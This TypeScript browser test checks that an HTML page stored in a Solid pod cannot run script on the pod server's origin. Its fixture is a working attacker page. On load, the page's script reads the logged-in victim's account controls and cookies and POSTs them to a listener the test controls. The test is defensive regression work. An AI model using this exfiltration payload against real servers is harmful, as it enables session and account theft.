/**
 * Issue #17, point 1, in a real browser (Debian's chromium): a user of the
 * pod server puts an HTML page in their own pod, readable by anyone, and
 * sends the link to someone logged in to the pod server (here kari, logged in
 * through CSS's own login form). The page's script would run on the origin
 * of the login and account pages: read the account's controls with the
 * account cookie (the next step is creating client credentials for it), and
 * read the cookie itself. It reports what it got to a listener of the test's.
 * The listener must hear nothing, and kari's login must keep working.
 */
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { DEMO_PASSWORD, demoEmail } from '../../pod-server/world/demo-world.ts';
import { launchChromium } from '../support/chromium.ts';
import { freePort, startTestWorld, type TestWorld } from '../support/test-world.ts';

let world: TestWorld;
let browser: Browser;
let listener: Server;
let listenerUrl: string;
const heard: string[] = [];

/** The attacker's page: on load, report the account controls it can reach and the cookies it can read. */
const page = (reportTo: string) => `<!doctype html><html><head><title>Results</title></head><body><p>Your results</p><script>
  const report = (what) => fetch(${JSON.stringify(reportTo)}, { method: 'POST', mode: 'no-cors', body: what });
  report('ran');
  fetch('/.account/', { headers: { accept: 'application/json' } })
    .then((r) => r.json())
    .then((j) => report('controls: ' + Object.keys(j.controls.account || {}).join(',') + '; cookie: ' + document.cookie));
</script></body></html>`;

beforeAll(async () => {
  const port = await freePort();
  listenerUrl = `http://127.0.0.1:${port}/report`;
  listener = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      heard.push(body);
      response.end();
    });
  });
  await new Promise<void>((resolve) => listener.listen(port, '127.0.0.1', resolve));
  world = await startTestWorld();
  browser = await launchChromium();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await world?.stop();
  await new Promise((resolve) => listener?.close(resolve));
});

describe('a page stored in a pod, opened by someone logged in to the pod server', () => {
  it('runs no script on the pod server\'s origin: nothing reaches the attacker, and the login still works', async () => {
    const hans = await world.fetchAs('hans');
    const pageUrl = new URL('hans/results.html', world.baseUrl).href;
    const put = await hans(pageUrl, { method: 'PUT', headers: { 'content-type': 'text/html' }, body: page(listenerUrl) });
    expect(put.status).toBe(201);
    // Readable by anyone, so that a link to it opens in any browser.
    const acl = `@prefix acl: <http://www.w3.org/ns/auth/acl#>.
<#owner> a acl:Authorization; acl:agent <${world.accounts.hans!.webId}>; acl:accessTo <${pageUrl}>; acl:mode acl:Read, acl:Write, acl:Control.
<#public> a acl:Authorization; acl:agentClass <http://xmlns.com/foaf/0.1/Agent>; acl:accessTo <${pageUrl}>; acl:mode acl:Read.`;
    expect((await hans(`${pageUrl}.acl`, { method: 'PUT', headers: { 'content-type': 'text/turtle' }, body: acl })).status).toBe(201);
    expect((await fetch(pageUrl)).status).toBe(200);

    const context = await browser.newContext({ acceptDownloads: true });
    const tab = await context.newPage();
    // kari logs in to the pod server with CSS's own form (its script must keep working).
    await tab.goto(new URL('.account/login/password/', world.baseUrl).href);
    await tab.locator('#email').fill(demoEmail('kari'));
    await tab.locator('#password').fill(DEMO_PASSWORD);
    await tab.locator('button[type=submit]:not([disabled])').first().click();
    await tab.waitForURL((url) => !url.pathname.includes('/login/'), { timeout: 30_000 });
    const controls = await tab.evaluate(async () => (await (await fetch('/.account/', { headers: { accept: 'application/json' } })).json()).controls);
    expect(Object.keys(controls.account)).toContain('clientCredentials');

    // She opens the link.
    const opened = await context.newPage();
    await opened.goto(pageUrl).catch((error: Error) => {
      // A download aborts the navigation: that is the point.
      if (!/download/iu.test(error.message)) throw error;
    });
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    expect(heard).toEqual([]);
    await context.close();
  }, 120_000);
});
